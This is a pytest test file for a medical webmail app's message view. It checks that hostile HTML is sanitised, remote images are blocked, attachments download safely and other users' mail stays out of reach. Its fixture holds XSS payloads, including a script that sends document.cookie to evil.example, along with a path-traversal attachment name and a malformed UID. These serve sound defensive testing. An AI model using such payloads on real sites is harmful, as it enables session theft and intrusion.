"""Reading a message: text, hostile HTML, attachments, read state."""

from __future__ import annotations

from email.message import EmailMessage

from starlette.testclient import TestClient

from dev.stack import Stack
from tests.conftest import MailUser, deliver, imap_for, simple_mail, soup

HOSTILE_HTML = """<html><head><script>alert('head')</script>
<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/"></head>
<body onload="steal()"><p style="color:red">Compte rendu <b>important</b></p>
<img src="https://tracker.example/pixel.gif?id=42" alt="pixel">
<a href="javascript:alert(1)">cliquer</a> <a href="https://www.example.org/doc">doc</a>
<div hx-get="/logout" hx-trigger="load">x</div><span data-hx-post="/mail/delete">y</span>
<form action="https://evil.example/"><input name="password"></form>
<iframe src="https://evil.example/"></iframe><svg><script>alert(2)</script></svg>
<script>document.location='https://evil.example/?c='+document.cookie</script></body></html>"""


def hostile_mail(to: str) -> EmailMessage:
    message = simple_mail("pirate@evil.example", to, "Résultats urgents")
    message.add_alternative(HOSTILE_HTML, subtype="html")
    return message


def test_text_message_is_shown_and_marked_read(
    logged_in: TestClient, stack: Stack, user: MailUser
) -> None:
    uid = deliver(
        stack,
        user,
        simple_mail(
            "dr.b@chu-demo.mssante.test",
            user.address,
            "Compte rendu",
            "Patient vu en consultation.\nÀ revoir.",
        ),
    )
    page = logged_in.get(f"/mail/message?folder=INBOX&uid={uid}")
    assert page.status_code == 200
    assert (
        soup(page.text).select_one("pre.text-body").get_text()
        == "Patient vu en consultation.\nÀ revoir.\n"
    )
    assert page.headers["cache-control"] == "no-store"
    imap = imap_for(stack, user)
    imap.select("INBOX", readonly=True)
    _typ, data = imap.uid("FETCH", str(uid), "(FLAGS)")
    imap.logout()
    assert b"\\Seen" in data[0]


def test_xdm_prefix_is_hidden(logged_in: TestClient, stack: Stack, user: MailUser) -> None:
    uid = deliver(
        stack,
        user,
        simple_mail(
            "dmp@chu-demo.mssante.test",
            user.address,
            "XDM/1.0/DDM+CR hospitalisation DUPONT Jean 01/02/1950",
        ),
    )
    page = logged_in.get(f"/mail/message?folder=INBOX&uid={uid}")
    title = soup(page.text).select_one(".message-subject").get_text(" ", strip=True)
    assert title == "XDM CR hospitalisation DUPONT Jean 01/02/1950"


def test_hostile_html_never_reaches_the_browser(
    logged_in: TestClient, stack: Stack, user: MailUser
) -> None:
    uid = deliver(stack, user, hostile_mail(user.address))
    page = logged_in.get(f"/mail/message?folder=INBOX&uid={uid}")
    html = soup(page.text)
    frame = html.select_one("iframe.mail-frame")
    assert frame is not None and "allow-scripts" not in frame["sandbox"]
    assert html.select_one(".remote-banner") is not None  # the tracker was blocked, and we say so
    body = logged_in.get(frame["src"])
    assert body.status_code == 200
    text = body.text.lower()
    for forbidden in (
        "<script",
        "onload",
        "javascript:",
        "tracker.example",
        "evil.example",
        "hx-get",
        "data-hx",
        "<form",
        "<iframe",
        "<svg",
        "http-equiv",
        "<base",
    ):
        assert forbidden not in text, forbidden
    assert "compte rendu" in text and "https://www.example.org/doc" in text
    csp = body.headers["content-security-policy"]
    assert "script-src" not in csp and "default-src 'none'" in csp and "sandbox" in csp
    assert "img-src 'self' data:;" in csp


def test_remote_images_only_on_request(logged_in: TestClient, stack: Stack, user: MailUser) -> None:
    message = simple_mail("news@labo-demo.mssante.test", user.address, "Lettre")
    message.add_alternative('<p>Logo <img src="https://cdn.example/logo.png"></p>', subtype="html")
    uid = deliver(stack, user, message)
    blocked = logged_in.get(f"/mail/message/frame?folder=INBOX&uid={uid}")
    assert "cdn.example" not in blocked.text
    shown = logged_in.get(f"/mail/message/frame?folder=INBOX&uid={uid}&remote=1")
    assert 'src="https://cdn.example/logo.png"' in shown.text
    assert "https:" in shown.headers["content-security-policy"]


def test_attachment_download_is_exact_and_safe(
    logged_in: TestClient, stack: Stack, user: MailUser
) -> None:
    pdf = b"%PDF-1.4\n" + bytes(range(256)) * 40 + b"\n%%EOF\n"
    message = simple_mail("labo@labo-demo.mssante.test", user.address, "Bilan")
    message.add_attachment(
        pdf, maintype="application", subtype="pdf", filename="bilan sanguin été.pdf"
    )
    message.add_attachment(
        b"<script>alert(1)</script>", maintype="text", subtype="html", filename="../../piège.html"
    )
    uid = deliver(stack, user, message)
    page = logged_in.get(f"/mail/message?folder=INBOX&uid={uid}")
    links = soup(page.text).select("a.attachment")
    names = [link.select_one(".att-name").get_text() for link in links]
    assert names == ["bilan sanguin été.pdf", "piège.html"]
    download = logged_in.get(links[0]["href"])
    assert download.content == pdf
    assert download.headers["content-type"] == "application/pdf"
    assert download.headers["content-disposition"].startswith("attachment;")
    assert (
        "filename*=UTF-8''bilan%20sanguin%20%C3%A9t%C3%A9.pdf"
        in download.headers["content-disposition"]
    )
    assert download.headers["x-content-type-options"] == "nosniff"
    html_part = logged_in.get(links[1]["href"])
    assert html_part.headers["content-type"].startswith("application/octet-stream")
    assert html_part.headers["content-disposition"].startswith("attachment;")


def test_missing_message_is_404(logged_in: TestClient) -> None:
    response = logged_in.get("/mail/message?folder=INBOX&uid=999999")
    assert response.status_code == 404
    assert "n'existe pas" in soup(response.text).find("p").get_text()


def test_bad_uid_is_400(logged_in: TestClient) -> None:
    assert logged_in.get("/mail/message?folder=INBOX&uid=1:*").status_code == 400


def test_missing_attachment_part_is_404(
    logged_in: TestClient, stack: Stack, user: MailUser
) -> None:
    uid = deliver(stack, user, simple_mail("a@chu-demo.mssante.test", user.address, "Sans pièce"))
    assert logged_in.get(f"/mail/attachment?folder=INBOX&uid={uid}&part=7.3").status_code == 404
    assert logged_in.get(f"/mail/attachment?folder=INBOX&uid={uid}&part=../1").status_code == 404


def test_another_users_message_is_out_of_reach(
    logged_in: TestClient, stack: Stack, user: MailUser, other_user: MailUser
) -> None:
    uid = deliver(
        stack,
        other_user,
        simple_mail("a@chu-demo.mssante.test", other_user.address, "Confidentiel patient X"),
    )
    response = logged_in.get(f"/mail/message?folder=INBOX&uid={uid}")
    assert response.status_code == 404
    assert "Confidentiel" not in response.text
